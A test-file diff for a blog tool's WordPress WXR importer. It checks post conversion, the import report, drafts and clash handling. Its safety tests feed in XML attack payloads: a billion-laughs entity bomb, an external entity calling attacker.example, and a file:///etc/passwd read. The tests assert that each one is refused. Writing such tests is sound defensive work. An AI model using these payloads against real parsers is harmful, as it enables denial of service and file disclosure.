@@ -1,0 +1,264 @@
+"""`linkblog import wordpress`: a WXR export, field by field, its safety cases, and the report (#16)."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime, timedelta, timezone
+from pathlib import Path
+
+import pytest
+from bs4 import BeautifulSoup
+from conftest import run_cli, tree_bytes
+from test_import_helpers import FIXTURES, assert_builds, fresh_site, posts_of, read_imported
+
+EXPORT = FIXTURES / "wordpress.xml"
+PUBLISHED = [
+    "2015-06-01-busy-is-not-progress.md",
+    "2015-06-03-work-vs-progress.md",
+    "2015-06-20-some-customers-suck.md",
+    "2015-06-25-work-vs-progress-2.md",
+    "2015-07-11-über-kundenservice-日本.md",
+]
+DRAFTS = ["2016-02-01-half-written-thoughts.md", "2016-02-02-waiting-for-review.md", "2016-02-03-private-notes.md"]
+CEST = timezone(timedelta(hours=2))
+
+
+@pytest.fixture(scope="module")
+def imported(tmp_path_factory: pytest.TempPathFactory):
+    """The fixture export imported once (without drafts) into a fresh site: the run and the site."""
+    site = fresh_site(tmp_path_factory.mktemp("wp") / "site")
+    return run_cli(site, "import", "wordpress", str(EXPORT)), site
+
+
+def test_published_posts_only_become_files(imported) -> None:
+    done, site = imported
+    assert done.code == 0, done.err
+    assert sorted(p.name for p in (site / "posts").iterdir()) == PUBLISHED
+
+
+def test_a_rich_post_field_by_field(imported) -> None:
+    post = posts_of(imported[1])["2015-06-01-busy-is-not-progress.md"]
+    assert post.meta["title"] == "Busy is not progress"
+    # post_date against post_date_gmt: the blog's own offset, written with the date.
+    assert post.meta["date"] == datetime(2015, 6, 1, 9, 30, tzinfo=CEST)
+    assert "date: 2015-06-01 09:30:00+02:00" in post.text
+    assert post.meta["tags"] == ["Management", "work", "Teams & People"]  # Uncategorized dropped
+    assert post.meta["author"] == "Sheri Jones"
+    assert "slug" not in post.meta and post.parsed.slug == "busy-is-not-progress"
+    assert post.meta["summary"].endswith("Teams can look very busy and still go nowhere. Nobody notices until the "
+                                         "deadline.")
+    assert "link" not in post.meta and "draft" not in post.meta
+
+
+def test_a_rich_post_body_as_markdown(imported) -> None:
+    body = posts_of(imported[1])["2015-06-01-busy-is-not-progress.md"].body
+    # [caption]: the linked image, then its caption.
+    assert body.startswith("[![A busy office](https://supportnotes.example.com/wp-content/uploads/2015/06/header.jpg)]"
+                           "(https://supportnotes.example.com/wp-content/uploads/2015/06/header.jpg)\n\n"
+                           "*Everyone is busy; is anyone moving?*\n\n")
+    # wpautop: a single newline is a line break, a blank line a paragraph.
+    assert "Teams can look *very* busy and still go nowhere.\\\nNobody notices until the deadline.\n\n" in body
+    assert "\n\n<!--more-->\n\n## Why it happens\n\n" in body
+    assert ("> On poorly managed teams conflicting and irrelevant work is allowed to go on.\n>\n"
+            "> Work is not progress.\n>\n> — Scott Berkun\n") in body
+    assert "- Work nobody asked for\n  - and nobody **reads**\n  - or ships\n- Meetings about meetings\n" in body
+    assert "1. Count the open tickets\n2. Count the closed ones\n" in body
+    assert "```python\ndef ratio(closed, opened):\n\n    return closed / opened if opened > 0 else 0\n```" in body
+    assert "Use `ratio()` weekly. See [Goodhart's law](https://en.wikipedia.org/wiki/Goodhart%27s_law)" in body
+
+
+def test_html_markdown_cannot_say_is_kept(imported) -> None:
+    post = posts_of(imported[1])["2015-06-01-busy-is-not-progress.md"]
+    page = BeautifulSoup(post.parsed.html, "html.parser")
+    assert page.find("td", rowspan="2").get_text() == "Week"
+    assert page.find("table", class_="stats") is not None
+    assert page.find("iframe")["src"] == "https://www.youtube.com/embed/dQw4w9WgXcQ"
+    assert post.body.rstrip().endswith('[gallery ids="11,13,14" columns="3"]')
+
+
+def test_unknown_shortcode_is_reported(imported) -> None:
+    done = imported[0]
+    assert "wordpress.xml: post 12" in done.err and "[gallery]" in done.err
+
+
+def test_link_post_ending_in_title_author_via(imported) -> None:
+    post = posts_of(imported[1])["2015-06-03-work-vs-progress.md"]
+    assert post.meta["link"] == "https://scottberkun.com/2015/work-vs-progress/"
+    assert post.meta["source"] == "Scott Berkun"
+    assert post.meta["via"] == {"name": "Nick", "url": "https://nickbradbury.example/"}
+    assert post.meta["tags"] == ["Management"]  # the "Link" post format is no tag
+    assert post.body == ("> On poorly managed teams conflicting and irrelevant work is allowed to go on, often for "
+                         "months.\n\nHow a talent is directed can matter more than the size of the talent.\n")
+
+
+def test_quote_plus_link_becomes_a_link_post(imported) -> None:
+    post = posts_of(imported[1])["2015-06-20-some-customers-suck.md"]
+    assert post.meta["link"] == "https://nickbradbury.com/some-customers-suck/"
+    assert post.meta["source"] == "nickbradbury.com"
+    assert "nickbradbury.com" not in post.body and post.body.endswith("Agreed.\n")
+
+
+def test_recovered_posts_are_listed_for_review(imported) -> None:
+    out = imported[0].out
+    assert "Recovered 2 link posts" in out
+    assert "posts/2015-06-03-work-vs-progress.md: link https://scottberkun.com/2015/work-vs-progress/, " \
+           "source Scott Berkun, via Nick" in out
+    assert "posts/2015-06-20-some-customers-suck.md" in out
+
+
+def test_non_ascii_title_and_percent_encoded_slug(imported) -> None:
+    post = posts_of(imported[1])["2015-07-11-über-kundenservice-日本.md"]
+    assert post.meta["title"] == "Über Kundenservice: 日本のサポート"
+    assert post.parsed.slug == "über-kundenservice-日本"
+    assert post.meta["tags"] == ["Kundenservice", "日本"]
+    assert post.meta["summary"] == "How Japanese service anticipates the question."  # the WordPress excerpt
+    # A Gutenberg post: block comments gone, the quote block's <cite> as its last line.
+    assert "wp:" not in post.body
+    assert "> The customer should never have to ask twice.\n>\n> — Keiko Tanaka\n" in post.body
+    assert "link" not in post.meta  # more commentary than quote: not a link post
+
+
+def test_same_slug_in_one_month_gets_a_suffix(imported) -> None:
+    post = posts_of(imported[1])["2015-06-25-work-vs-progress-2.md"]
+    assert post.meta["title"] == "Work vs. Progress"
+    assert post.parsed.slug == "work-vs-progress-2"
+    assert "link" not in post.meta  # its only link goes to the blog itself
+
+
+def test_report_counts_what_was_skipped(imported) -> None:
+    out = imported[0].out
+    assert "Imported 5 posts into posts/: 5 new" in out
+    for reason in ("attachment ×1", "comment ×2", "nav_menu_item ×1", "page ×1", "post type 'jetpack-portfolio' ×1",
+                   "draft (use --drafts) ×1", "pending (use --drafts) ×1", "private (use --drafts) ×1"):
+        assert reason in out
+
+
+def test_imported_site_builds(imported) -> None:
+    assert_builds(imported[1])
+
+
+def test_rerun_changes_nothing(imported) -> None:
+    site = imported[1]
+    before = tree_bytes(site / "posts")
+    done = run_cli(site, "import", "wordpress", str(EXPORT))
+    assert done.code == 0
+    assert "0 new, 5 unchanged" in done.out
+    assert tree_bytes(site / "posts") == before
+
+
+def test_drafts_with_drafts_flag(tmp_path: Path) -> None:
+    site = fresh_site(tmp_path / "site")
+    done = run_cli(site, "import", "wordpress", str(EXPORT), "--drafts")
+    assert done.code == 0, done.err
+    assert sorted(p.name for p in (site / "posts").iterdir()) == sorted(PUBLISHED + DRAFTS)
+    draft = read_imported(site / "posts" / DRAFTS[0])
+    assert draft.meta["draft"] is True
+    # No GMT date: post_date in the site's zone (UTC here).
+    assert draft.meta["date"] == datetime(2016, 2, 1, 8, 0, tzinfo=UTC)
+    assert read_imported(site / "posts" / DRAFTS[1]).meta["date"] == datetime(
+        2016, 2, 2, 10, 0, tzinfo=timezone(timedelta(hours=1)))
+    assert all(read_imported(site / "posts" / name).meta["draft"] is True for name in DRAFTS)
+
+
+def test_clash_is_listed_and_force_overwrites(tmp_path: Path) -> None:
+    site = fresh_site(tmp_path / "site")
+    mine = site / "posts" / "2015-06-03-work-vs-progress.md"
+    mine.write_text("---\ntitle: Mine\ndate: 2015-06-03\n---\nMy own words.\n", encoding="utf-8")
+    done = run_cli(site, "import", "wordpress", str(EXPORT))
+    assert done.code == 1
+    assert "Not written: 1 file" in done.out and "posts/2015-06-03-work-vs-progress.md" in done.out
+    assert mine.read_text(encoding="utf-8").endswith("My own words.\n")
+    assert (site / "posts" / PUBLISHED[0]).exists()  # the others are written
+    forced = run_cli(site, "import", "wordpress", str(EXPORT), "--force")
+    assert forced.code == 0, forced.err
+    assert "1 overwritten" in forced.out
+    assert read_imported(mine).meta["source"] == "Scott Berkun"
+
+
+@pytest.mark.parametrize("version", ["1.0", "1.1"])
+def test_older_wxr_versions(tmp_path: Path, version: str) -> None:
+    text = EXPORT.read_text(encoding="utf-8").replace("export/1.2/", f"export/{version}/")
+    export = tmp_path / "old.xml"
+    export.write_text(text.replace("<wp:wxr_version>1.2<", f"<wp:wxr_version>{version}<"), encoding="utf-8")
+    site = fresh_site(tmp_path / "site")
+    done = run_cli(site, "import", "wordpress", str(export))
+    assert done.code == 0, done.err
+    assert sorted(p.name for p in (site / "posts").iterdir()) == PUBLISHED
+
+
+def test_wxr_1_0_categories_without_domain(tmp_path: Path) -> None:
+    export = tmp_path / "old.xml"
+    export.write_text(minimal_export("1.0", "<category><![CDATA[Support]]></category>"
+                                     "<category><![CDATA[Uncategorized]]></category>"), encoding="utf-8")
+    site = fresh_site(tmp_path / "site")
+    assert run_cli(site, "import", "wordpress", str(export)).code == 0
+    assert read_imported(site / "posts" / "2010-05-04-old-times.md").meta["tags"] == ["Support"]
+
+
+def minimal_export(version: str, categories: str = "", content: str = "Old words.") -> str:
+    """A one-post export in the given WXR version."""
+    return f"""<?xml version="1.0" encoding="UTF-8"?>
+<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
+  xmlns:wp="http://wordpress.org/export/{version}/" xmlns:dc="http://purl.org/dc/elements/1.1/">
+<channel><title>Old</title><link>http://old.example.com</link><wp:wxr_version>{version}</wp:wxr_version>
+<item><title>Old times</title><link>http://old.example.com/?p=1</link><dc:creator>admin</dc:creator>
+<content:encoded><![CDATA[{content}]]></content:encoded><wp:post_id>1</wp:post_id>
+<wp:post_date>2010-05-04 10:00:00</wp:post_date><wp:post_date_gmt>2010-05-04 10:00:00</wp:post_date_gmt>
+<wp:post_name>old-times</wp:post_name><wp:status>publish</wp:status><wp:post_type>post</wp:post_type>
+{categories}</item></channel></rss>
+"""
+
+
+BILLION_LAUGHS = """<?xml version="1.0"?>
+<!DOCTYPE rss [
+  <!ENTITY lol "lol">
+  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<rss><channel><wp:wxr_version xmlns:wp="http://wordpress.org/export/1.2/">1.2</wp:wxr_version>
+<item><title>&lol4;</title></item></channel></rss>
+"""
+EXTERNAL_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE rss [<!ENTITY remote SYSTEM "http://attacker.example/steal">]>
+<rss><channel><item><title>&remote;</title></item></channel></rss>
+"""
+LOCAL_FILE = """<?xml version="1.0"?>
+<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<rss><channel><item><title>&secret;</title></item></channel></rss>
+"""
+HOSTILE = {
+    "billion-laughs": (BILLION_LAUGHS, "refused"),
+    "external-entity": (EXTERNAL_ENTITY, "refused"),
+    "local-file": (LOCAL_FILE, "refused"),
+    "truncated": (EXPORT.read_text(encoding="utf-8")[:6000], "not well-formed XML"),
+    "not-xml": ("title,date\nHello,2015-01-01\n", "not well-formed XML"),
+    "unknown-version": (minimal_export("1.3"), "unknown WXR version '1.3'"),
+    "plain-rss": ("<rss version='2.0'><channel><title>x</title></channel></rss>", "not a WordPress export"),
+    "only-pages": (minimal_export("1.2").replace("<wp:post_type>post", "<wp:post_type>page"), "no posts to import"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_bad_exports_are_refused_with_nothing_written(tmp_path: Path, case: str) -> None:
+    text, message = HOSTILE[case]
+    export = tmp_path / f"{case}.xml"
+    export.write_text(text, encoding="utf-8")
+    site = fresh_site(tmp_path / "site")
+    done = run_cli(site, "import", "wordpress", str(export))
+    assert done.code == 1
+    lines = done.err.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith(f"{export}") and message in lines[0]
+    assert "Traceback" not in done.err and "lol" not in done.err and "root:" not in done.err
+    assert list((site / "posts").iterdir()) == []
+
+
+def test_missing_export_file(tmp_path: Path) -> None:
+    site = fresh_site(tmp_path / "site")
+    done = run_cli(site, "import", "wordpress", "nope.xml")
+    assert done.code == 1 and done.err.strip() == "nope.xml: no such file"
+
+
+def test_usage_error_exits_2(tmp_path: Path) -> None:
+    site = fresh_site(tmp_path / "site")
+    assert run_cli(site, "import", "blogger", "x.xml").code == 2
+    assert run_cli(site, "import", "wordpress").code == 2
